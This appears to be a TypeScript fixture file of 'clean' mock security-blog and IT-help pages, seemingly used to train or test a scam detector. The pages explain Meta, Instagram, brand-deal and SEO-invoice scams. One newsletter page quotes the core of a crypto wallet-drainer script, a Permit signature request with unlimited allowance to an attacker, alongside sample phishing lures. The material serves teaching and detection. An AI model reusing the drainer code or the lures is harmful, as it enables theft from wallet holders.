import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { CSS, analytics, b64, copyButtons, doc, esc, siteShell } from '../parts/ys-kit.js';

// Agency blogs, newsletters and IT help pages that quote scams, commands and code — for the reader's benefit.

export const entries: Entry[] = [
{
  id: 'ys-clean-agency-blog-meta-policy-phishing-en',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://lumenco.agency/blog/meta-policy-violation-phishing-what-our-clients-received',
  body: doc({
    title: '“Your Page will be deleted”: the Meta policy-violation phishing our clients received this quarter — Lumen & Co',
    head: analytics('G-LUMEN221'),
    css: CSS.reset + CSS.article,
    body: siteShell({
      name: 'Lumen & Co',
      color: '#e5533d',
      nav: ['Work', 'Services', 'Blog', 'Contact'],
      body: `<main><p style="font-family:Helvetica,Arial;color:#888;font-size:13px">Security · 9 min read · by Ana Ribeiro, Head of Security</p>
<h1>“Your Page will be deleted”: the Meta policy-violation phishing our clients received this quarter</h1>
<p>Between July and September, our clients forwarded us 212 messages that claimed to come from Meta. Not one of them did. This post walks through what they looked like, how the pages behind them worked, and what we now tell every client who runs a Page or an ad account.</p>
<h2>The messages</h2>
<blockquote>Your Page has been scheduled for permanent deletion due to a violation of our trademark rights. If you believe this is a mistake, you may submit an appeal within 24 hours: hxxps://meta-business-appeal[.]com/case/…</blockquote>
<blockquote>Meta Verified: Congratulations! Your account is eligible for the blue badge free for 12 months. Confirm ownership here: hxxps://meta-verified-idoneita[.]it[.]com/…</blockquote>
<p>They arrive as Messenger messages from Pages named "Meta Support Team" or "Page Policy Center", as Instagram DMs, and as emails sent through legitimate mass-mailing services so that the links are wrapped in trusted tracking domains.</p>
<h2>What the pages do</h2>
<p>Nearly all of them follow the same three steps: a form asking for the Page name, business email and phone; a pop-up that asks you to "re-enter your password" and always says the first attempt was wrong; and a screen asking for the six-digit code from your authenticator app. The data goes to the attacker's server or straight to a Telegram bot. A few newer kits add a fourth step asking you to upload a photo of your ID.</p>
<figure><pre>POST /next.php
sid=k2v9x1pq&amp;step=password&amp;password=********&amp;ip=…&amp;country=Portugal</pre><figcaption>Request captured from one of the kits in our sandbox (password redacted).</figcaption></figure>
<h2>What we tell clients</h2>
<ul><li>Meta will never send you to a page outside facebook.com or meta.com to appeal. Check <b>Account Quality</b> inside Business Suite instead.</li><li>Never type a login code into a page you opened from a message.</li><li>Use a security key or passkey for every admin of your Business portfolio.</li><li>Forward anything suspicious to security@lumenco.agency — we look at every one.</li></ul></main>`,
      foot: 'Lumen & Co Digital · São Paulo · Lisboa · Milano · security@lumenco.agency',
    }),
  }),
},

{
  id: 'ys-clean-agency-blog-fake-brand-deals-pt',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://lumenco.com.br/blog/golpe-da-parceria-falsa-criadores',
  body: doc({
    lang: 'pt-BR',
    title: 'O golpe da "parceria" para criadores: briefings com vírus e taxas para liberar pagamento — Lumen & Co',
    css: CSS.reset + CSS.article,
    body: siteShell({
      name: 'Lumen & Co',
      color: '#e5533d',
      nav: ['Cases', 'Serviços', 'Blog', 'Contato'],
      body: `<main><p style="font-family:Helvetica,Arial;color:#888;font-size:13px">Creators · 7 min de leitura</p>
<h1>O golpe da "parceria" para criadores: briefings com vírus e taxas para liberar pagamento</h1>
<p>Criadores que trabalham com a gente receberam, só em setembro, 37 propostas falsas de marcas. Elas seguem dois roteiros.</p>
<h2>1. O briefing que é um programa</h2>
<p>A "marca" manda um link para baixar o briefing: um arquivo <code>.zip</code> ou <code>.rar</code> protegido por senha, com um arquivo chamado <code>Briefing_Campanha.pdf.lnk</code> ou <code>Contrato.pdf.exe</code>. Às vezes a página diz que o PDF "exige uma versão atualizada do leitor" e oferece um download. Ao abrir, um ladrão de senhas copia os cookies do navegador e as sessões do Facebook, TikTok e Instagram.</p>
<h2>2. A taxa para liberar o cachê</h2>
<blockquote>"Seu saque está bloqueado. Por exigência do Banco Central, criadores precisam pagar a taxa de liberação e IOF (R$ 187,50) antes do primeiro saque."</blockquote>
<p>Nenhuma plataforma séria cobra do criador para receber. Plataformas como TikTok Creator Marketplace, Collabstr e as agências de verdade descontam a comissão do pagamento — nunca pedem Pix antes.</p>
<h2>Checklist rápido</h2><ul><li>Briefing legítimo vem como PDF, Google Docs ou Notion — nunca como executável ou atalho.</li><li>Desconfie de e-mails de marcas usando Gmail ou domínios recém-criados.</li><li>Nunca pague para "liberar" um pagamento.</li></ul></main>`,
    }),
  }),
},

{
  id: 'ys-clean-agency-blog-seo-listing-invoices-it',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://www.studioventuno.it/blog/fatture-seo-domini-truffa',
  body: doc({
    lang: 'it',
    title: 'Quelle "fatture" per la registrazione SEO del dominio: cosa sono e perché non pagarle | Studio Ventuno',
    css: CSS.reset + CSS.article,
    body: siteShell({
      name: 'Studio Ventuno',
      color: '#222',
      nav: ['Agenzia', 'Servizi', 'Blog', 'Contatti'],
      body: `<main><p style="font-family:Helvetica,Arial;color:#888;font-size:13px">Domini e hosting · 5 min</p>
<h1>Quelle "fatture" per la registrazione SEO del dominio: cosa sono e perché non pagarle</h1>
<p>Ogni volta che registri o rinnovi un dominio, nel giro di pochi giorni arriva una email intitolata "Domain Notification" o "Avviso di scadenza" con un importo tra 79 e 149 euro. Sembra una fattura del tuo registrar. Non lo è.</p>
<blockquote>FINAL NOTICE — Payment due. Failure to complete your search engine registration by the expiration date may result in cancellation of this offer, making it difficult for your customers to locate you on the web.</blockquote>
<p>In fondo alla pagina, in piccolo, c'è quasi sempre la frase che li tiene al riparo: <i>"This is not a bill. This is a solicitation."</i> Pagando non rinnovi nulla: acquisti una "iscrizione ai motori di ricerca" che non ha alcun valore.</p>
<h2>Come riconoscerle</h2><ul><li>Il mittente non è il tuo registrar (Aruba, Register.it, GoDaddy…).</li><li>Parlano di "SEO", "indicizzazione" o "listing".</li><li>Chiedono pagamenti con carta su un sito sconosciuto o con bonifico a conti esteri.</li></ul>
<p>Per i nostri clienti gestiamo noi i rinnovi: se ricevi una richiesta di pagamento per un dominio, inoltracela prima di fare qualsiasi cosa.</p></main>`,
    }),
  }),
},

{
  id: 'ys-clean-agency-blog-ig-badge-scam-th',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://siamsociallab.co.th/blog/instagram-blue-badge-scam',
  body: doc({
    lang: 'th',
    title: 'ระวัง! ข้อความ "บัญชีของคุณมีสิทธิ์รับเครื่องหมายยืนยันสีฟ้า" คือการหลอกขโมยบัญชี | Siam Social Lab',
    css: CSS.reset + CSS.article,
    body: siteShell({
      name: 'Siam Social Lab',
      color: '#7b2ff7',
      nav: ['บริการ', 'ผลงาน', 'บทความ', 'ติดต่อ'],
      body: `<main><p style="font-family:Helvetica,Arial;color:#888;font-size:13px">บทความ · 10 ต.ค. 2568</p>
<h1>ระวัง! ข้อความ "บัญชีของคุณมีสิทธิ์รับเครื่องหมายยืนยันสีฟ้า" คือการหลอกขโมยบัญชี</h1>
<p>ช่วงนี้ครีเอเตอร์และแบรนด์ที่เราดูแลได้รับ DM จากบัญชีที่ตั้งชื่อว่า "Instagram Verify Team" พร้อมลิงก์ไปยังหน้าเว็บที่เหมือน Instagram ทุกอย่าง หน้าเว็บจะให้กรอกชื่อผู้ใช้และรหัสผ่าน และมักแจ้งว่า "รหัสผ่านไม่ถูกต้อง" ในครั้งแรกเพื่อให้เหยื่อพิมพ์ซ้ำ</p>
<blockquote>บัญชีของคุณมีสิทธิ์รับเครื่องหมายยืนยันสีฟ้า ครีเอเตอร์ที่มีผู้ติดตามเพิ่มขึ้นอย่างต่อเนื่องสามารถยื่นขอเครื่องหมายยืนยันได้ฟรี</blockquote>
<h2>ข้อเท็จจริง</h2><ul><li>Meta Verified เป็นบริการแบบสมัครสมาชิก สมัครได้ในแอป Instagram/Facebook หรือ Meta Business Suite เท่านั้น</li><li>Instagram ไม่เคยส่ง DM มาเสนอเครื่องหมายยืนยันฟรี</li><li>อย่ากรอกรหัสผ่านหรือรหัส 2FA ในหน้าที่เปิดจากลิงก์ในข้อความ</li></ul>
<p>หากพลาดไปแล้ว ให้เปลี่ยนรหัสผ่านทันที ตรวจสอบ "กิจกรรมการเข้าสู่ระบบ" และติดต่อทีมเราที่ 02-105-4477</p></main>`,
    }),
  }),
},

{
  id: 'ys-clean-newsletter-drainer-code-analysis-en',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://creatorsecurity.substack.com/p/how-creator-payout-drainers-work',
  body: doc({
    title: 'How the "Creator Fund payout" drainers work - Creator Security Weekly',
    css: CSS.reset + CSS.article + `main{max-width:680px}`,
    body: `<main><p style="font-family:Helvetica,Arial;font-size:13px;color:#888">Creator Security Weekly · Issue #41</p>
<h1>How the "Creator Fund payout" drainers work</h1>
<p>This week a wave of sites promised TikTok and Instagram creators "Q3 rewards" in USDC. I pulled apart three of them. All three use the same trick: they never send you anything; they ask you to <i>sign</i> a message that gives them permission to move your tokens.</p>
<p>Here is the core of the script, lightly cleaned up (addresses replaced):</p>
<pre>const typed = {
  primaryType: 'Permit',
  domain: { name: 'USD Coin', version: '2', chainId, verifyingContract: USDC },
  message: { owner: acc, spender: ATTACKER, value: MAX_UINT256, nonce, deadline }
};
const sig = await ethereum.request({
  method: 'eth_signTypedData_v4',
  params: [acc, JSON.stringify(typed)]
});
await fetch('/api/v2/claim', { method: 'POST', body: JSON.stringify({ owner: acc, sig }) });</pre>
<p>Once the attacker has that signature they can call <code>permit()</code> and then <code>transferFrom()</code> on your USDC without another click from you. Some variants follow up with plain <code>approve()</code> transactions (selector <code>0x095ea7b3</code>) or <code>setApprovalForAll</code> (<code>0xa22cb465</code>) for NFTs.</p>
<h2>What to do</h2><ul><li>Read what your wallet asks you to sign. "Permit" with a huge value to an unknown spender is a red flag.</li><li>Review and revoke approvals regularly with a tool like revoke.cash.</li><li>Keep payouts in a wallet that never connects to random sites.</li></ul>
<p style="font-size:13px;color:#888">You're receiving this because you subscribed to Creator Security Weekly. Unsubscribe anytime.</p></main>`,
  }),
},

{
  id: 'ys-clean-agency-it-helpdesk-winget-copy',
  label: 'clean',
  kind: 'it-helpdesk-clipboard',
  url: 'https://help.lumenco.agency/it/setup-new-laptop',
  body: doc({
    title: 'Setting up your new laptop — Lumen & Co IT Help',
    css: CSS.reset + `body{font-family:-apple-system,"Segoe UI",Arial,sans-serif;color:#222;line-height:1.6;background:#fafafa}.w{max-width:760px;margin:30px auto;background:#fff;padding:30px;border-radius:8px;border:1px solid #eee}.cmd{display:flex;align-items:center;gap:10px;background:#1e1e1e;color:#dcdcdc;border-radius:6px;padding:10px 14px;font-family:Consolas,monospace;font-size:14px;margin:8px 0}.cmd code{flex:1}.cmd button{background:#3a3a3a;color:#fff;border:0;border-radius:4px;padding:4px 10px;cursor:pointer}.n{background:#fff8e1;padding:10px 14px;border-radius:6px}`,
    body: `<div class="w"><p style="color:#888;font-size:13px">IT Help › Onboarding</p><h1>Setting up your new laptop</h1>
<p>Welcome to Lumen &amp; Co! Your laptop comes with Windows 11 and the Company Portal already installed. A few tools need to be added by you. Open <b>Terminal (Admin)</b> from the Start menu and run each command below.</p>
<h3>1. Password manager and VPN</h3><div class="cmd"><code id="c1">winget install --id Bitwarden.Bitwarden -e</code><button data-copy="c1">Copy</button></div><div class="cmd"><code id="c2">winget install --id WireGuard.WireGuard -e</code><button data-copy="c2">Copy</button></div>
<h3>2. Creative tools</h3><div class="cmd"><code id="c3">winget install --id Figma.Figma -e; winget install --id OBSProject.OBSStudio -e</code><button data-copy="c3">Copy</button></div>
<div class="n"><b>Note:</b> IT will never ask you to paste a command from a website you reached through a CAPTCHA, a client document or a chat message. If a page asks you to press Win+R and paste something, stop and message #it-help.</div>
<p>Next: <a href="/it/security-keys">Register your security key</a></p></div>
${copyButtons()}`,
  }),
},
];
